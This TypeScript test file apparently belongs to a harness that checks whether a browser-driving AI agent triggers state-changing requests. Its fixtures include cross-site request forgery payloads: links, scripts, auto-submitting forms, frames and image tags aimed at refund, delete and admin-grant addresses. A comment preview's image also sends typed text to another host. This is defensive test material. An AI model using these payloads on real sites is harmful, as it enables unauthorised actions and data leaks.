import { document, type Hit } from "../sites.ts";
import { button, CLICK, type HoleRow, OVER, UNTIL_OVER } from "./holes.ts";

/** Addresses that do something, as applications spell them. */
const SPELLINGS: readonly string[] = [
  "/logout.php",
  "/delete.php?id=3",
  "/api/logout.json",
  "/doLogout",
  "/removeUser.do?userId=5",
  "/approve?id=3",
  "/orders/3/refund",
  "/item/3?delete",
  "/index.php?a=delete&id=3",
  "/pay?invoice=5",
  "/transfer?to=eve&amount=5",
  "/account/log_out;jsessionid=1",
  "/users/5/delete/",
  "/users%2F5%2Fdelete",
  "/Users/Delete/5",
  "/user-remove.aspx?u=5",
  "/admin.cgi?cmd=drop&table=orders",
  "/admin/users/5?do=ban",
  "/posts/5/publish",
  "/posts/5/unpublish",
  "/invoices/9/markPaid",
  "/invites/4/accept",
  "/sign-out",
  "/signout.html",
  "/users/5/make_admin",
  "/repositories/5/transfer?owner=eve",
  "/vote?id=5&v=up",
  "/polls/3/vote/2",
  "/subscribe?list=2",
  "/cancelOrder?id=5",
  "/order/cancel/5",
  "/tasks/5/complete",
  "/keys/5/revoke",
  "/deactivate-account",
  "/resetPassword?user=5",
  "/?action=delete&post=5&_wpnonce=8c1d22e07b",
  "/wp-admin/post.php?post=5&action=trash",
  "/grant?user=eve&role=owner",
  "/setRole?user=eve&role=owner",
  "/queue/5/purge",
  "/empty-trash",
  "/%64elete/5",
  "/servers/5/reboot",
  "/jobs/5/cancel",
  "/members/5/remove.html",
  "/unsubscribe?mail=ada@office.test",
  "/confirmOrder.action?id=5",
  "/messages/5/send",
  "/share?file=5&with=eve",
  "/api/v2/users/5/deactivate",
];

const A_ROW = 10;

function chunks<T>(list: readonly T[], size: number): readonly (readonly T[])[] {
  return list.length === 0 ? [] : [list.slice(0, size), ...chunks(list.slice(size), size)];
}

const isOf =
  (paths: readonly string[]) =>
  ({ method, path }: Hit): boolean =>
    method === "GET" && paths.includes(path);

/** Each is a page's link, which the agent follows. */
const followed: readonly HoleRow[] = chunks(SPELLINGS, A_ROW).map((paths, at) => ({
  id: "H17",
  title: `links that do something: ${paths.join(" ")}`,
  alsoReading: true,
  pages: {
    [`old${at}.test/start`]: document(paths.map((path, n) => `<p><a href="${path}">Link ${n}</a></p>`).join("")),
  },
  steps: paths.flatMap((_, n) => [{ go: `http://old${at}.test/start` }, { click: `link "Link ${n}"` }]),
  isEffect: isOf(paths),
  without: paths.length,
  least: 1,
}));

/** One of them by other ways. */
const otherWays: readonly HoleRow[] = (
  [
    ["location", `location.href = PLACE`],
    ["fetch", `fetch(PLACE)${OVER}`],
    ["XMLHttpRequest", `{ const x = new XMLHttpRequest(); x.open("GET", PLACE); x.send() }`],
    ["a popup", `open(PLACE)`],
    [
      "a form by GET",
      `{ const form = document.createElement("form"); form.action = "/orders/3/refund"; document.body.append(form); form.submit() }`,
    ],
    ["a frame", `inner.src = PLACE`],
    [
      "a worker",
      `new Worker(URL.createObjectURL(new Blob(["fetch('http://" + location.host + "/orders/3/refund')"])))`,
    ],
    [
      "a refresh",
      `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=/orders/3/refund">')`,
    ],
    ["a redirect of a harmless address", `location.href = "/harmless"`],
    ["EventSource", `new EventSource(PLACE)`],
  ] as const
).map(([how, script], at) => {
  const host = `by${at}.test`;
  return {
    id: "H17",
    title: `an address that does something, asked for by ${how}`,
    alsoReading: true,
    pages: {
      [`${host}/start`]: button(script.replaceAll("PLACE", `"/orders/3/refund"`), `<iframe id="inner"></iframe>`),
      [`${host}/harmless`]: () => ({ status: 302, headers: { location: "/orders/3/refund" } }),
    },
    steps: [{ go: `http://${host}/start` }, CLICK],
    isEffect: ({ path }: Hit) => path.startsWith("/orders/3/refund"),
    ...(how === "EventSource" && { least: 0 }),
  };
});

const oneTime: readonly HoleRow[] = [
  "/unsubscribe?token=9f8e7d6c5b4a39281706f5e4",
  "/confirm/eyJhbGciOiJIUzI1NiJ9.eyJ1Ijo1fQ.c2lnbmF0dXJl",
  "/invite/accept?code=Zx81kQpL02mVbTn7",
].map(
  (path, at): HoleRow => ({
    id: "H17",
    title: `a one-time token in an address of an open site: ${path}`,
    open: [`once${at}.test`],
    alsoReading: true,
    pages: { [`once${at}.test/start`]: document(`<a href="${path}">Go on</a>`) },
    steps: [{ go: `http://once${at}.test/start` }, { click: 'link "Go on"' }],
    isEffect: isOf([path]),
  }),
);

/** The agent itself names it. */
const named: HoleRow = {
  id: "H17",
  title: "an address that does something, opened by the agent",
  alsoReading: true,
  pages: { "names.test/start": document("") },
  steps: [{ go: "http://names.test/start" }, { go: "http://names.test/orders/3/refund" }],
  isEffect: isOf(["/orders/3/refund"]),
};

const AHEAD = ["/logout", "/orders/3/refund", "/delete.php?id=3", "/pay?invoice=5"] as const;

/** Nobody presses a picture: such loads are refused, and nobody is asked. */
const ahead: readonly HoleRow[] = (
  [
    ["pictures", (path: string) => `<img src="${path}">`],
    ["scripts", (path: string) => `<script src="${path}"></script>`],
    ["styles", (path: string) => `<link rel="stylesheet" href="${path}">`],
    [
      "tracks",
      (path: string) =>
        `<video muted><track default kind="captions" src="${path}"></video><script>for (const v of document.querySelectorAll("video")) v.textTracks[0].mode = "showing"</script>`,
    ],
    ["films", (path: string) => `<video src="${path}" preload="auto"></video>`],
    ["frames", (path: string) => `<iframe src="${path}"></iframe>`],
    ["objects", (path: string) => `<object data="${path}"></object>`],
    ["backgrounds", (path: string) => `<div style="background:url('${path}');width:9px;height:9px"></div>`],
    ["preloads", (path: string) => `<link rel="preload" as="image" href="${path}">`],
    ["prefetches", (path: string) => `<link rel="prefetch" href="${path}">`],
    ["pictures of a set", (path: string) => `<img srcset="${path} 1x">`],
    ["pictures of a drawing", (path: string) => `<svg><image href="${path}" width="9" height="9"/></svg>`],
  ] as const
).map(([how, markup], at) => ({
  id: "H18",
  title: `addresses that do something, as ${how}`,
  alsoReading: true,
  pages: {
    [`ahead${at}.test/`]: document(AHEAD.map((path) => markup(path)).join(""), `onload = () => fetch("/over")`),
  },
  steps: [{ go: `http://ahead${at}.test/` }, UNTIL_OVER],
  isEffect: isOf(AHEAD),
  questions: 0,
  least: 0,
  most: 0,
  untold: true,
  // Chromium fetches nothing ahead of a plain page in these two ways where it is told not to.
}));

const pictured: readonly HoleRow[] = [
  {
    id: "H18",
    title: "a picture's address that the agent typed, shown before it is saved",
    pages: {
      "avatar.test/": document(
        `<label>Avatar URL <input id="url"></label><img id="shown">`,
        `url.oninput = () => { shown.src = url.value; fetch("/over") }`,
      ),
    },
    steps: [
      { go: "http://avatar.test/" },
      { type: 'textbox "Avatar URL"', text: "http://avatar.test/orders/3/refund" },
      UNTIL_OVER,
    ],
    isEffect: isOf(["/orders/3/refund"]),
    questions: 0,
    least: 0,
    most: 0,
    untold: true,
  },
  {
    id: "H18",
    title: "a comment's preview, whose picture of another site takes along what was typed",
    open: ["pictures.test"],
    pages: {
      "preview.test/": document(
        `<label>Comment <textarea id="words"></textarea></label><div id="shown"></div>`,
        `words.oninput = () => { shown.innerHTML = '<img src="http://pictures.test/p.png?t=' + encodeURIComponent(words.value) + '">'; fetch("/over") }`,
      ),
    },
    steps: [{ go: "http://preview.test/" }, { type: 'textbox "Comment"', text: "the vault opens at nine" }, UNTIL_OVER],
    isEffect: ({ host, path }: Hit) => host === "pictures.test" && path.includes("vault"),
    questions: 0,
    least: 0,
    most: 0,
    untold: true,
  },
  ...(["img", "iframe", "form"] as const).map(
    (how, at): HoleRow => ({
      id: "H18",
      title: `a frame out of scope that asks the private site, by ${how}`,
      stray: [`stray${at}.test`],
      pages: {
        [`holds${at}.test/`]: document(
          `<iframe src="http://stray${at}.test/"></iframe>`,
          `setTimeout(() => fetch("/over"), 1500)`,
        ),
        [`stray${at}.test/`]: document(
          how === "img"
            ? `<img src="http://holds${at}.test/orders/3/refund">`
            : how === "iframe"
              ? `<iframe src="http://holds${at}.test/orders/3/refund"></iframe>`
              : `<form id="form" action="http://holds${at}.test/orders/3/refund"></form><script>form.submit()</script>`,
        ),
      },
      steps: [{ go: `http://holds${at}.test/` }, UNTIL_OVER],
      isEffect: ({ path }: Hit) => path.startsWith("/orders/3/refund"),
      questions: 0,
      least: 0,
      most: 0,
      untold: true,
    }),
  ),
];

/** By kind. */
export const getHoleKinds: readonly (readonly HoleRow[])[] = [followed, otherWays, oneTime, [named], ahead, pictured];
